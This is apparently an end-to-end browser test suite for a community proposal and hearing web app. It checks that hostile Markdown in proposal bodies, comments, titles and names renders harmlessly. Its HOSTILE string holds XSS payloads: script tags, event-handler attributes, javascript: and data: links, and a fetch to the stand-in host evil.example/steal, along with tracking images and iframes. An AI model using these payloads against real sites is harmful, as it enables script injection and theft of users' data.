"""Hostile Markdown in a proposal and a comment, opened in Chromium: no script runs, no
dialog opens, no request leaves for another host, and no javascript: link or remote image
reaches the page. Part of the adversarial suite (docs/SECURITY.md); it lives here to share
the one Chromium a test session may drive."""

import re

import pytest
from playwright.sync_api import expect

from core.markdown import WORD_JOINER
from tests.conftest import using_database
from tests.e2e.test_journey import main
from tests.e2e.test_proposal_journey import open_proposal, signed_in

pytestmark = pytest.mark.e2e

HOSTILE = """开头的正常文字 MARKER-OK

<script>window.__xss = 1; fetch('http://evil.example/steal')</script>
<img src=x onerror="window.__xss = 2">
[点这里](javascript:window.__xss=3)
[data link](data:text/html,<script>window.__xss=4</script>)
![远程图片](http://evil.example/track.png)
<iframe src="http://evil.example/frame"></iframe>
<a href="http://evil.example/" onclick="window.__xss=5">外链</a>
<svg onload="window.__xss=6"></svg>
"""


def plant(database_url: str) -> int:
    from sqlmodel import select

    from core.accounts.sessions import principal_for
    from core.discussion import add_comment
    from core.proposals.commands import submit_proposal
    from db.engine import read_session
    from db.models import User

    with using_database(database_url):
        with read_session() as s:
            author = principal_for(s.exec(select(User).where(User.username == "resident")).one())
        proposal_id = submit_proposal(
            actor=author, kind="proposal", title="恶意标记测试", body=HOSTILE, category="facilities"
        )
        add_comment(actor=author, proposal_id=proposal_id, body=HOSTILE)
    return proposal_id


def test_hostile_markdown_does_nothing(browser, app_url, e2e_database):
    proposal_id = plant(e2e_database)
    context = browser.new_context(locale="zh-CN")
    page = context.new_page()
    dialogs, foreign = [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    context.route(
        re.compile(r"^(?!https?://(127\.0\.0\.1|localhost)[:/])"),
        lambda route: (foreign.append(route.request.url), route.abort()),
    )
    try:
        signed_in(page, app_url, "moderator")
        open_proposal(page, app_url, str(proposal_id))
        expect(main(page).get_by_text("MARKER-OK").first).to_be_visible()
        page.wait_for_timeout(1500)  # time for anything that would fire
        for link in main(page).get_by_role("link", name="点这里").all():
            link.click()  # if a javascript: link had survived, this would run it
        page.wait_for_timeout(500)
        assert page.evaluate("window.__xss") is None
        assert dialogs == []
        assert foreign == []
        assert page.locator('[data-testid="stMain"] a[href^="javascript:"]').count() == 0
        assert page.locator('[data-testid="stMain"] img[src*="evil.example"]').count() == 0
        assert page.locator('[data-testid="stMain"] iframe[src*="evil.example"]').count() == 0
    finally:
        context.close()


# Markup in a title or a name, which reach translated messages and link labels: shown as the
# characters typed, on the public accountability board and in a moderator's confirmation.
TITLE = "![跟踪](http://evil.example/title.png) :red[红字] $x^2$ 标题标记"
NAME = "![跟踪](http://evil.example/name.png) **粗体** 名字标记"


def plant_names(database_url: str) -> tuple[int, int]:
    """A need with a hostile title, held by an actor (so it is on the board), and a roster
    resident without an account given a hostile name; returns (open hearing, resident)."""
    from sqlmodel import col, select

    from core.accounts.sessions import principal_for
    from core.proposals.commands import assign_actor, change_status, submit_proposal
    from db.engine import read_session, write_session
    from db.models import Actor, Hearing, Resident, User

    with using_database(database_url):
        with read_session() as s:
            users = {
                u.username: principal_for(u)
                for u in s.exec(
                    select(User).where(col(User.username).in_(["resident", "moderator"]))
                )
            }
            actor_id = s.exec(
                select(Actor.id).where(col(Actor.active).is_(True)).order_by(col(Actor.id))
            ).first()
            hearing = s.exec(
                select(Hearing.id).where(Hearing.status == "open", Hearing.audience != "invited")
            ).first()
            accounts = select(User.resident_id).where(col(User.resident_id).is_not(None))
            walk_in = s.exec(
                select(Resident.id)
                .where(col(Resident.id).not_in(accounts))
                .order_by(col(Resident.id).desc())
            ).first()
        proposal_id = submit_proposal(
            actor=users["resident"],
            kind="need",
            title=TITLE,
            body="三号楼一单元的楼道灯坏了一个多月，晚上回家看不见台阶，老人容易摔倒。",
            category="facilities",
        )
        change_status(actor=users["moderator"], proposal_id=proposal_id, to_status="under_review")
        assign_actor(actor=users["moderator"], proposal_id=proposal_id, responsible_id=actor_id)
        with write_session() as s:
            s.get(Resident, walk_in).full_name = NAME
            s.get(Hearing, hearing).capacity = None  # walk-ins welcome: no registration
    return hearing, walk_in


def test_hostile_titles_and_names_show_as_text(browser, app_url, e2e_database):
    hearing, walk_in = plant_names(e2e_database)
    context = browser.new_context(locale="zh-CN", viewport={"width": 1280, "height": 1100})
    page = context.new_page()
    foreign = []
    context.route(
        re.compile(r"^(?!https?://(127\.0\.0\.1|localhost)[:/])"),
        lambda route: (foreign.append(route.request.url), route.abort()),
    )
    try:
        # Anyone, signed in or not, on the public board: the title is a link label.
        page.goto(f"{app_url}/accountability")
        search = main(page).get_by_role("textbox", name="查找事项")
        search.fill("标题标记")
        search.press("Enter")
        # The item shows among the search's matches, and under its actor too when it is among
        # the actor's first items: every link to it must show the title as typed.
        links = main(page).get_by_role("link", name=re.compile("标题标记"))
        expect(links.first).to_be_visible()
        for link in links.all():
            assert TITLE in link.inner_text().replace(WORD_JOINER, "")  # as typed
            assert link.locator("img, a, span[style], .katex").count() == 0

        # The moderator's confirmation after checking in a resident by that name.
        signed_in(page, app_url, "moderator")
        page.goto(f"{app_url}/hearings?id={hearing}")
        search = main(page).get_by_role("textbox", name="按姓名或房号查找居民")
        search.fill("名字标记")
        search.press("Enter")
        page.locator(f".st-key-in_offline_{walk_in} button").click()
        confirmation = main(page).get_by_text("名字标记 已签到。")
        expect(confirmation).to_be_visible()
        assert f"{NAME} 已签到。" in confirmation.inner_text().replace(WORD_JOINER, "")
        assert confirmation.locator("img, a, strong").count() == 0
        page.wait_for_timeout(1000)  # time for any image request to leave
        assert foreign == []
        assert page.locator('img[src*="evil.example"]').count() == 0
        assert page.locator('[data-testid="stMain"] a[href*="evil.example"]').count() == 0
    finally:
        context.close()
